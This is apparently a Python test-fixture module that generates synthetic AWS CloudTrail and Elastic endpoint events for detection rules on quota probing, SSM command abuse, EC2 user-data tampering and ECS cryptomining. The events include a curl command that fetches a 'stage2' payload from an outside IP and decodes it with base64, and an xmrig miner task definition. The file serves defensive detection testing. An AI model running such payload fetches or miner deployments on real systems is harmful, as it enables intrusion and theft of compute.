"""Event sets for the rules about compute: EC2, SSM, ECS, service quotas."""

from __future__ import annotations

from typing import Any

from tests.elastic_rules.records import (
    BOTO3,
    SWEDEN_IP,
    Client,
    EventSets,
    Ids,
    assumed_role,
    aws_cli,
    event,
    iam_user,
)

Record = dict[str, Any]

QUOTA_REGIONS = (
    "us-east-1",
    "us-east-2",
    "us-west-1",
    "us-west-2",
    "eu-west-1",
    "eu-central-1",
    "eu-north-1",
    "ap-southeast-1",
    "ap-northeast-1",
    "sa-east-1",
)


def servicequotas_multi_region_service_quota_requests() -> EventSets:
    """A leaked key asks for the EC2 on-demand vCPU quota in ten regions within 30 seconds.

    Negative flips `count_distinct(cloud.region) >= 10`: the tenth call repeats us-east-1.
    """

    def events(regions: tuple[str, ...]) -> list[Record]:
        ids = Ids("5a03")
        client = Client(
            iam_user("build-agent", "AKIA2BUILDAGENTKEY01", principal="AIDA2BUILDAGENTEXMPL"),
            SWEDEN_IP,
            BOTO3,
        )
        return [
            event(
                ids,
                client,
                at=f"10:40:{n + 1:02d}",
                source="servicequotas.amazonaws.com",
                name="GetServiceQuota",
                region=region,
                request={"serviceCode": "ec2", "quotaCode": "L-1216C47A"},
                read_only=True,
            )
            for n, region in enumerate(regions)
        ]

    return EventSets(events(QUOTA_REGIONS), events((*QUOTA_REGIONS[:9], "us-east-1")))


_INSTANCE = "i-0f3a9c2b7d41e6a58"
SSM_COMMAND = "8c2e4f1a-6b3d-4e9a-a7c5-0d1f2b3c4e5f"
OTHER_SSM_COMMAND = "3d7b9e2c-1a4f-4c8d-b6e0-5f9a2c4e6b81"


def _send_command(ids: Ids) -> Record:
    client = Client(
        assumed_role(
            "ops-automation", "jenkins", "ASIA4OPSAUTOMATION01", role_id="AROA4OPSAUTOEXAMPLE1"
        ),
        SWEDEN_IP,
        aws_cli("ssm.send-command"),
    )
    return event(
        ids,
        client,
        at="13:05:00",
        source="ssm.amazonaws.com",
        name="SendCommand",
        request={
            "instanceIds": [_INSTANCE],
            "documentName": "AWS-RunShellScript",
            "parameters": "HIDDEN_DUE_TO_SECURITY_REASONS",
            "interactive": False,
        },
        response={
            "command": {
                "commandId": SSM_COMMAND,
                "documentName": "AWS-RunShellScript",
                "documentVersion": "$DEFAULT",
                "comment": "",
                "expiresAfter": "May 12, 2026, 3:05:00 PM",
                "parameters": "HIDDEN_DUE_TO_SECURITY_REASONS",
                "instanceIds": [_INSTANCE],
                "targets": [],
                "requestedDateTime": "May 12, 2026, 1:05:00 PM",
                "status": "Pending",
                "statusDetails": "Pending",
                "outputS3Region": "us-east-1",
                "maxConcurrency": "50",
                "maxErrors": "0",
                "targetCount": 1,
                "completedCount": 0,
                "errorCount": 0,
                "deliveryTimedOutCount": 0,
                "timeoutSeconds": 3600,
            }
        },
    )


def _script(command_id: str) -> str:
    return (
        f"/var/lib/amazon/ssm/{_INSTANCE}/document/orchestration/{command_id}"
        "/awsrunShellScript/0.awsrunShellScript/_script.sh"
    )


def _endpoint_process(
    at: str,
    pid: int,
    name: str,
    command_line: str,
    command_id: str,
    parent: tuple[str, int, str] | None = None,
) -> Record:
    """A Linux process start as Elastic Defend indexes it (`endpoint.events.process`); the
    parent is the SSM script's shell unless given as (name, pid, command line)."""
    parent_name, parent_pid, parent_command_line = parent or (
        "sh",
        48190,
        f"/bin/sh {_script(command_id)}",
    )
    return {
        "@timestamp": f"2026-05-12T{at}Z",
        "data_stream": {
            "dataset": "endpoint.events.process",
            "namespace": "default",
            "type": "logs",
        },
        "event": {
            "action": "exec",
            "category": ["process"],
            "dataset": "endpoint.events.process",
            "id": f"NmRkYjc4ZjQtOWU0Ny00{pid}",
            "kind": "event",
            "module": "endpoint",
            "type": ["start"],
        },
        "host": {"name": "ip-10-0-3-17", "os": {"type": "linux", "name": "Amazon Linux"}},
        "process": {
            "name": name,
            "executable": f"/usr/bin/{name}",
            "command_line": command_line,
            "pid": pid,
            "parent": {
                "name": parent_name,
                "pid": parent_pid,
                "command_line": parent_command_line,
            },
        },
        "user": {"name": "root"},
    }


def aws_ec2_lolbin_via_ssm() -> EventSets:
    """SSM SendCommand (AWS-RunShellScript) whose script runs curl and base64 on the instance.

    The rule also reads `logs-endpoint.events.process-*`: the process starts are
    `endpoint.events.process` ECS documents, the SendCommand is raw CloudTrail. The script's
    own shell (`/bin/sh .../_script.sh`, started by `sh -c`) is there too: the rule's
    `LIKE "%/document/orchestration/%..."` takes `%` literally, so it never matches. Negative
    flips the SSM command id correlation: the processes belong to another command.
    """

    def events(command_id: str) -> list[Record]:
        return [
            _send_command(Ids("5a04")),
            _endpoint_process(
                "13:05:03.871",
                48190,
                "sh",
                f"/bin/sh {_script(command_id)}",
                command_id,
                parent=("sh", 48188, f"sh -c {_script(command_id)}"),
            ),
            _endpoint_process(
                "13:05:04.512",
                48211,
                "curl",
                "curl -fsSL http://198.51.100.77/stage2.b64 -o /tmp/.s2",
                command_id,
            ),
            _endpoint_process("13:05:05.104", 48215, "base64", "base64 -d /tmp/.s2", command_id),
        ]

    return EventSets(events(SSM_COMMAND), events(OTHER_SSM_COMMAND))


_EC2_INSTANCE = "i-0c8d2e6f4a1b3c5d7"


def _instances(state: tuple[int, str], previous: tuple[int, str]) -> Any:
    return {
        "requestId": "9f1e2d3c-4b5a-4968-8776-a5b4c3d2e1f0",
        "instancesSet": {
            "items": [
                {
                    "instanceId": _EC2_INSTANCE,
                    "currentState": {"code": state[0], "name": state[1]},
                    "previousState": {"code": previous[0], "name": previous[1]},
                }
            ]
        },
    }


def ec2_stop_start_with_user_data_modification() -> EventSets:
    """An instance is stopped, its user data replaced, and started again within 5 minutes.

    Negative flips `request_parameters like "*userData=*"`: the instance type is changed
    instead of the user data.
    """

    def events(attribute: dict[str, Any]) -> list[Record]:
        ids = Ids("5a05")
        client = Client(
            assumed_role(
                "EC2AdminRole", "anna", "ASIA6EC2ADMINANNA001", role_id="AROA6EC2ADMINEXAMPLE"
            ),
            SWEDEN_IP,
            aws_cli("ec2.stop-instances"),
        )
        items = {"items": [{"instanceId": _EC2_INSTANCE}]}
        return [
            event(
                ids,
                client,
                at="14:01:10",
                source="ec2.amazonaws.com",
                name="StopInstances",
                request={"instancesSet": items, "force": False},
                response=_instances((64, "stopping"), (16, "running")),
            ),
            event(
                ids,
                client,
                at="14:02:30",
                source="ec2.amazonaws.com",
                name="ModifyInstanceAttribute",
                request={"instanceId": _EC2_INSTANCE, **attribute},
                response={"requestId": "0a1b2c3d-4e5f-4061-8293-a4b5c6d7e8f9", "_return": True},
            ),
            event(
                ids,
                client,
                at="14:03:05",
                source="ec2.amazonaws.com",
                name="StartInstances",
                request={"instancesSet": items},
                response=_instances((0, "pending"), (80, "stopped")),
            ),
        ]

    return EventSets(
        events({"userData": "<sensitiveDataRemoved>"}),
        events({"instanceType": {"value": "t3.large"}}),
    )


def _task_definition(cpu: int, memory: int) -> dict[str, Any]:
    return {
        "family": "batch-worker",
        "containerDefinitions": [
            {
                "name": "worker",
                "image": "docker.io/minerlabs/xmrig:6.21.0",
                "cpu": cpu,
                "memory": memory,
                "essential": True,
                "command": ["--donate-level", "1", "-o", "pool.example.net:3333"],
            }
        ],
        "requiresCompatibilities": ["FARGATE"],
        "networkMode": "awsvpc",
        "cpu": str(cpu),
        "memory": str(memory),
    }


def _run_task() -> dict[str, Any]:
    return {
        "cluster": "default",
        "taskDefinition": "batch-worker:1",
        "count": 1,
        "launchType": "FARGATE",
        "networkConfiguration": {
            "awsvpcConfiguration": {
                "subnets": ["subnet-0a1b2c3d4e5f60718"],
                "assignPublicIp": "ENABLED",
            }
        },
    }


def ecs_cryptomining_task_definition_deployment() -> EventSets:
    """A task definition running a public miner image with 8 vCPUs, then run in two regions.

    Negative flips `cpu=(8192|16384)`: the task asks for 4 vCPUs.
    """

    def events(cpu: int, memory: int) -> list[Record]:
        ids = Ids("5a0a")
        client = Client(
            assumed_role(
                "ci-deploy", "pipeline-2291", "ASIA7CIDEPLOYKEY0001", role_id="AROA7CIDEPLOYEXAMPLE"
            ),
            SWEDEN_IP,
            aws_cli("ecs.run-task"),
        )
        return [
            event(
                ids,
                client,
                at="16:10:00",
                source="ecs.amazonaws.com",
                name="RegisterTaskDefinition",
                request=_task_definition(cpu, memory),
            ),
            event(
                ids,
                client,
                at="16:10:20",
                source="ecs.amazonaws.com",
                name="RunTask",
                request=_run_task(),
            ),
            event(
                ids,
                client,
                at="16:11:00",
                source="ecs.amazonaws.com",
                name="RunTask",
                region="us-west-2",
                request=_run_task(),
            ),
        ]

    return EventSets(events(8192, 16384), events(4096, 8192))
